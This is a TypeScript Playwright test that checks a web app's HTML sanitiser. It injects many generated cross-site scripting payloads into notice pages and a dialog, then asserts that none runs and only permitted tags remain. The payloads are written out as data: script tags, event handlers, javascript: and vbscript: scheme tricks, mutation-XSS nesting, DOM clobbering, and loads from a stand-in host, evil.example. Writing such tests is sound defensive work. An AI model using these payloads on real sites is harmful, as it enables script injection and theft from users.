// Proves in a real browser that nothing of an operator's HTML runs or stays beyond text, links and pictures, whatever the server
// let through: many payloads in each place that draws HTML.
import type { Page } from '@playwright/test';
import { logIn } from '../pages/login-page.ts';
import { customers, expect, leaveOut, test } from '../test.ts';

const run = 'top.hasRun=1';
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
];
const hosts = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'select autofocus',
  'audio src=x',
  'object',
  'marquee',
  'math',
  'p',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '&#106;avascript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
];
const carriers = [
  'a href',
  'form action',
  'iframe src',
  'object data',
  'embed src',
  'base href',
  'link rel=import href',
  'area href',
];
const odd = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<svg><script>${run}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<a href="https://evil.example" target=_top onclick=${run}>x</a>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a><text>x</text></a></svg>`,
  `<style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style>`,
  `<img src="x" srcset="//evil.example/a.png 1x" style="background:url(//evil.example)">`,
  `<p id=root class=stage name=body style="position:fixed;inset:0">x</p>`,
  `<input name=attributes><form id=parentNode><input name=nodeName></form>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<a href="//evil.example">x</a><a href="/\\evil.example">x</a>`,
];
const everything = [
  ...odd,
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host} ${handler}=${run}>`)),
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host}/${handler.toUpperCase()}="${run}"//>`)),
  ...carriers.flatMap((carrier) =>
    schemes.map((scheme) => `<${carrier}="${scheme}${run}">x</${carrier.split(' ')[0]}>`),
  ),
  ...hosts.flatMap((host) => odd.map((inner) => `<${host}>${inner}</${host.split(' ')[0]}>`)),
]; /** The odd ones and a share of the rest; all of them with `E2E_PAYLOADS=all`. */
const share = process.env.E2E_PAYLOADS === 'all' ? 1 : 8;
const payloads = everything.filter((_, i) => i < odd.length || i % share === 0);

const tags =
  'H1 H2 H3 H4 P BR HR PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD B STRONG I EM U S SPAN CODE A IMG'.split(' ');
const attributes = ['href', 'src', 'alt', 'colspan', 'rowspan', 'loading', 'referrerpolicy'];

/** Installs a function that says what of the drawn HTML should not be there. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(
    ([tags, attributes]) => {
      Object.assign(window, {
        strangersIn(ground: Element | null): string[] {
          if (ground === null) return ['nothing is drawn'];
          const found = [...ground.querySelectorAll('*')].flatMap((element) => [
            ...(tags?.includes(element.tagName) ? [] : [element.tagName]),
            ...[...element.attributes]
              .filter(({ name, value }) => !attributes?.includes(name) || (name === 'href' && !/^\/[^/\\]/.test(value)))
              .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
          ]);
          return 'hasRun' in window ? ['a payload ran', ...found] : found;
        },
      });
    },
    [tags, attributes],
  );
}

/** Walks through the details from one to the next, as the app's own links do, and gathers what is found. */
function strangersOfAll(count: number): Promise<string[]> {
  const { strangersIn } = window as unknown as { strangersIn: (ground: Element | null) => string[] };
  const drawn = async (title: string) => {
    for (;;) {
      const heading = [...document.querySelectorAll('main h2')].find(({ textContent }) => textContent === title);
      if (heading) return heading.parentElement?.querySelector('div > div') ?? null;
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  };
  return (async () => {
    const found: string[] = [];
    for (let id = 0; id < count; id++) {
      history.pushState({ ...history.state, idx: id + 1 }, '', `/detail?id=${id}&type=Notice`);
      window.dispatchEvent(new PopStateEvent('popstate', { state: history.state }));
      found.push(...strangersIn(await drawn(`No ${id}`)).map((text) => `${id}: ${text}`));
    }
    return found;
  })();
}

test.use({ notices: true });

test(`${payloads.length} payloads in a detail page, the odd ones in a forced notice: none runs, none stays`, async ({
  page,
  context,
  complaints,
}) => {
  test.setTimeout(share === 1 ? 900_000 : 180_000);
  await leaveOut(context, 'popups');
  let forced = '';
  const answer = (data: unknown) => ({ json: { code: 200, message: 'ok', data } });
  await context.route('**/api/notice/detail*', (route) => {
    const id = new URL(route.request().url()).searchParams.get('id') ?? '';
    const content = payloads[Number(id)] ?? '';
    return route.fulfill(answer({ id, title: `No ${id}`, content, publishTime: '2026-11-19T02:00:00.000Z' }));
  });
  await context.route('**/api/force_notify/list*', (route) =>
    route.fulfill(answer(forced === '' ? [] : [{ id: '1', img: null, content: forced }])),
  );
  await watch(page);
  await logIn(page, customers.main);
  await page.goto('/detail?id=0&type=Notice');
  await expect(page.getByRole('heading', { name: 'No 0', level: 2 })).toBeVisible();
  expect(await page.evaluate(strangersOfAll, payloads.length)).toEqual([]);

  for (const payload of odd) {
    forced = payload;
    await page.goto('/index');
    await expect(page.getByRole('dialog')).toBeVisible();
    const found = await page.evaluate(() =>
      (window as unknown as { strangersIn: (ground: Element | null) => string[] }).strangersIn(
        document.querySelector('[role=dialog] [tabindex="-1"] > div'),
      ),
    );
    expect(found, payload).toEqual([]);
  }
  // The policy also speaks up for the scratch document that is cleaned, where nothing can run.
  const ofTheScratch =
    /inline (?:event handler|style) violates|base URI|^policy: (?:script-src-attr|style-src-(?:elem|attr)) inline|^policy: base-uri /;
  const others = complaints.splice(0).filter((text) => !ofTheScratch.test(text));
  expect(others).toEqual([]);
});
